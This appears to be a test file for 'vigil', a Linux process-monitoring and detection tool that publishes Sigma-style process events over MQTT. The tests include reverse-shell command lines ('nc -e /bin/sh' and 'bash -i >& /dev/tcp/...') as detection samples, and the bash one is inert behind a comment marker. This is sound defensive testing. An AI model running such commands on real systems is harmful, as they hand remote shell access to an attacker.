import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, writeFileSync } from 'node:fs';
import { hostname, tmpdir, userInfo } from 'node:os';
import path from 'node:path';
import mqtt from 'mqtt';
import pino from 'pino';
import { CollectorOutput } from '../../src/collect/collector-output';
import { ProcfsPoller } from '../../src/collect/procfs-poller';
import { projectRoot } from '../../src/project-root';
import { sharedMqttUrl, uniqueTenant } from '../helpers/shared-servers';
import { startVigil } from '../helpers/vigil-process';
import { subscribeEvents } from './published-events';

const logger = pino({ level: 'silent' });

test('a process started after the baseline is published as a linux process_creation event with Sigma field names', async () => {
  const tenant = uniqueTenant('procfs');
  const marker = `vigil-marker-${Date.now().toString(36)}`;
  const cwd = realpathSync(mkdtempSync(path.join(tmpdir(), 'vigil-procfs-')));
  const sub = await subscribeEvents(tenant);
  const client = await mqtt.connectAsync(sharedMqttUrl());
  const output = new CollectorOutput(client, { tenant, source: 'process', collector: 'test', maxBatchDelayMs: 20 }, logger);
  const poller = new ProcfsPoller({ hostname: hostname(), emit: (e) => output.emit(e), logger });
  const controller = new AbortController();
  await poller.baseline(); // only processes started after it are creations
  const running = poller.run(50, controller.signal);
  const spawnedAt = Date.now();
  const child = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000)', marker], { cwd, stdio: 'ignore' });
  try {
    await sub.until((events) => events.some((e) => String(e.data['CommandLine']).includes(marker)));
    const event = sub.events.find((e) => String(e.data['CommandLine']).includes(marker))!;
    expect(event.topic).toBe(`vigil/v1/${tenant}/events/process`);
    expect(event.data).toMatchObject({
      Image: realpathSync(process.execPath),
      CommandLine: `${process.execPath} -e setTimeout(() => {}, 60000) ${marker}`,
      ProcessId: child.pid,
      ParentProcessId: process.pid,
      ParentImage: realpathSync(process.execPath),
      User: userInfo().username,
      CurrentDirectory: cwd,
      Hostname: hostname(),
    });
    expect(String(event.data['ParentCommandLine'])).toContain(process.argv[1]!.split('/').pop());
    // timed by the process's own start (btime has 1 s resolution and drifts with clock adjustments), not by when the poller saw it
    expect(event.time).toBe(Date.parse(String(event.data['timestamp'])));
    expect(event.time).toBeGreaterThanOrEqual(spawnedAt - 5000);
    expect(event.time).toBeLessThanOrEqual(spawnedAt + 5000);
  } finally {
    child.kill();
    controller.abort();
    await running;
    await output.flush();
    output.close();
    await client.endAsync();
    await sub.close();
  }
});

test('processes that vanish mid-read are skipped and counted; kernel threads (no command line) are not events', async () => {
  const proc = mkdtempSync(path.join(tmpdir(), 'vigil-fakeproc-'));
  writeFileSync(path.join(proc, 'stat'), 'cpu  1 2 3\nbtime 1764144000\n');
  const describe = (pid: number, cmdline: string, files = ['stat', 'status', 'cmdline']): void => {
    mkdirSync(path.join(proc, String(pid)));
    const content: Record<string, string> = {
      stat: `${pid} (x y) S 1 ${pid} ${pid} 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 12345 0 0`,
      status: 'Name:\tx\nUid:\t0\t0\t0\t0\n',
      cmdline,
    };
    for (const f of files) writeFileSync(path.join(proc, String(pid), f), content[f]!);
  };
  const events: Record<string, unknown>[] = [];
  const poller = new ProcfsPoller({ hostname: 'h', emit: (e) => events.push(e), logger, procRoot: proc, passwdFile: path.join(proc, 'none') });
  await poller.baseline();
  describe(100, '/usr/bin/python3\0-c\0print(1)\0');
  describe(101, '');
  describe(102, 'x\0', ['status', 'cmdline']); // exited between readdir and reading its stat
  await poller.poll();
  expect(events).toEqual([
    expect.objectContaining({ ProcessId: 100, ParentProcessId: 1, Image: '/usr/bin/python3', CommandLine: '/usr/bin/python3 -c print(1)', User: '0', timestamp: new Date((1764144000 + 123.45) * 1000).toISOString() }),
  ]);
  expect(poller.counts).toMatchObject({ emitted: 1, vanished: 1, kernelThreads: 1 });
});

test('a process read between its fork and its exec is read again: its exec is an event of its own, once', async () => {
  const proc = mkdtempSync(path.join(tmpdir(), 'vigil-fakeproc-'));
  writeFileSync(path.join(proc, 'stat'), 'cpu  1 2 3\nbtime 1764144000\n');
  const write = (pid: number, cmdline: string): void => {
    mkdirSync(path.join(proc, String(pid)), { recursive: true });
    writeFileSync(path.join(proc, String(pid), 'stat'), `${pid} (x) S 1 ${pid} ${pid} 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 12345 0 0`);
    writeFileSync(path.join(proc, String(pid), 'status'), 'Name:\tx\nUid:\t0\t0\t0\t0\n');
    writeFileSync(path.join(proc, String(pid), 'cmdline'), cmdline);
  };
  const events: Record<string, unknown>[] = [];
  const poller = new ProcfsPoller({ hostname: 'h', emit: (e) => events.push(e), logger, procRoot: proc, passwdFile: path.join(proc, 'none') });
  await poller.baseline();
  write(300, '/usr/bin/bash\0-i\0'); // forked by an interactive shell, not exec'd yet
  write(301, ['/usr/bin/sleep', '100', ''].join('\0')); // exec'd already
  await poller.poll();
  write(300, ['/usr/bin/nc', '-e', '/bin/sh', '203.0.113.7', '443', ''].join('\0')); // the exec, after the first read
  await poller.poll();
  await poller.poll();
  expect(events.map((e) => [e['ProcessId'], e['CommandLine']])).toEqual([
    [300, '/usr/bin/bash -i'],
    [301, '/usr/bin/sleep 100'],
    [300, '/usr/bin/nc -e /bin/sh 203.0.113.7 443'],
  ]);
  expect(poller.counts.emitted).toBe(3);
});

test('`vigil collect procfs --edge-rules`: a reverse-shell command line is published, a benign process is only counted', async () => {
  const tenant = uniqueTenant('procedge');
  const sub = await subscribeEvents(tenant);
  const vigil = startVigil(['collect', 'procfs', '--interval', '100', '--tenant', tenant, '--edge-rules', path.join(projectRoot, 'rules', 'sigma', 'linux')], {
    MQTT_URL: sharedMqttUrl(),
    VIGIL_TENANTS: tenant,
  });
  const children: ReturnType<typeof spawn>[] = [];
  try {
    const deadline = Date.now() + 30_000;
    while (!vigil.output().includes('polling /proc')) {
      if (Date.now() > deadline || vigil.child.exitCode !== null) throw new Error(`procfs collector did not start: ${vigil.output()}`);
      await new Promise((r) => setTimeout(r, 50));
    }
    children.push(spawn('sleep', ['37'], { stdio: 'ignore' }));
    // never runs the shell: the text after # is a comment, present only in the command line
    children.push(spawn('sh', ['-c', 'sleep 38; true # bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'], { stdio: 'ignore' }));
    await sub.until((events) => events.some((e) => String(e.data['CommandLine']).includes('/dev/tcp/10.0.0.1/4444')));
  } finally {
    for (const c of children) c.kill();
    await vigil.stop();
    await sub.close();
  }
  expect(sub.events.map((e) => e.data['CommandLine'])).not.toContain('sleep 37');
  const filtered = Number(/filtered by edge rules (\d+)/.exec(vigil.output())?.[1]);
  expect(filtered).toBeGreaterThan(0);
});
